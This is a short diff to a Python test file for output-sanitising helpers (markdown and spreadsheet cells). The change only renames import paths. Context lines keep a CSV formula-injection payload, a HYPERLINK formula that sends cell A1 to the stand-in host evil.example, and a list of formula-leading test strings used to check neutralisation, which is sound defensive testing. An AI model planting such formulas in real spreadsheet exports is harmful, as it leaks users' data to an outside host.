@@ -12,7 +12,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from assembly.domain.safe_output import md_link, md_text, spreadsheet_cell
+from assembly.core.safe_output import md_link, md_text, spreadsheet_cell
 from tests.imports.hostile import run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -127,7 +127,7 @@ def test_markdown_and_html_reports_carry_no_live_html(hostile_demo: Path) -> Non
     "text", ["x;=1+1", "=A1", "a,\t-b|@c", "-3", "plain", "a; -2+3", "  =1", "'quoted"]
 )
 def test_the_log_import_reads_back_what_the_export_neutralised(text: str) -> None:
-    from assembly.domain.feedback_csv import unsafe_cell
+    from assembly.feedback.csv_exchange import unsafe_cell
 
     assert unsafe_cell(str(spreadsheet_cell(text))) == text
 
